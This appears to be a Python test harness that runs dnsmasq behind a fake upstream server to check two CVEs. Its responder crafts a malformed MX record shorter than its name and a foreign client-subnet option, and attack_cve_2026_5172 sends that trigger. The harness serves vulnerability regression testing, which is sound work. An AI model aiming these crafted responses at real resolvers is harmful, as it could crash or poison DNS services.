"""dnsmasq between a client and a name server here."""
import socket
import struct
import threading

from .base import NEW, OLD, ProofError, Server

A, OPT, MX = 1, 41, 15


def labels(name):
    return b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\0"


class Target(Server):
    def start(self):
        self.upstream = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.upstream.bind(("127.0.0.1", 0))
        threading.Thread(target=self._serve, daemon=True).start()
        self.number = 0
        options = ["--no-daemon", f"--port={self.port}", "--listen-address=127.0.0.1", "--bind-interfaces",
                   "--no-resolv", "--no-hosts", "--conf-file=/dev/null",
                   f"--server=127.0.0.1#{self.upstream.getsockname()[1]}",
                   "--user=root", "--pid-file=", "--cache-rr=MX"]
        if self.fix == "dnsmasq-cve-2026-4893":
            options.append("--add-subnet=32")
        self.launch(self.image, *options)
        self.wait_for_port()

    def stop(self):
        self.upstream.close()
        super().stop()

    def _serve(self):
        while True:
            try:
                query, client = self.upstream.recvfrom(4096)
                self.upstream.sendto(self.answer(query), client)
            except OSError:
                return # stopped

    def answer(self, query):
        """One address, or a mail exchanger whose record is shorter than its name; the subnet of another client."""
        end = query.index(b"\0", 12) + 5
        kind = struct.unpack(">H", query[end - 4:end - 2])[0]
        if kind == MX:
            data = b"\0\x01" + labels("mail.example")
            length = 4 if b"attack" in query else len(data)
            record = struct.pack(">HHHIH", 0xC00C, MX, 1, 60, length) + data
        else:
            record = struct.pack(">HHHIH4s", 0xC00C, A, 1, 60, 4, b"\x0a\0\0\1")
        subnet = struct.pack(">HHHBB4s", 8, 8, 1, 32, 0, b"\x0a\x09\x09\x09")
        option = b"\0" + struct.pack(">HHIH", OPT, 1232, 0, len(subnet)) + subnet
        additional = self.fix == "dnsmasq-cve-2026-4893"
        header = query[:2] + struct.pack(">HHHHH", 0x8180, 1, 1, 0, 1 if additional else 0)
        return header + query[12:end] + record + (option if additional else b"")

    def ask(self, kind=A, name="host", timeout=1.0):
        """The answer to a question that was never asked before; it is asked again twice, as resolvers do."""
        self.number += 1
        question = labels(f"{name}{self.number}.example") + struct.pack(">HH", kind, 1)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            client.settimeout(timeout)
            for _ in range(3):
                header = struct.pack(">HHHHHH", self.number, 0x0100, 1, 0, 0, 0)
                client.sendto(header + question, ("127.0.0.1", self.port))
                try:
                    return client.recv(4096)
                except TimeoutError:
                    pass
            return None

    def work(self):
        if self.ask() is None:
            raise ProofError("dnsmasq does not answer")

    def cve_2026_4893(self):
        """An answer for another client subnet is discarded, before: passed on."""
        return NEW if self.ask() is None else OLD

    def cve_2026_5172(self):
        if self.ask(MX) is None:
            raise ProofError("dnsmasq does not answer")

    def attack_cve_2026_5172(self):
        self.ask(MX, name="attack")
        self.cve_2026_5172()
        return "survives a record that is shorter than the name in it"
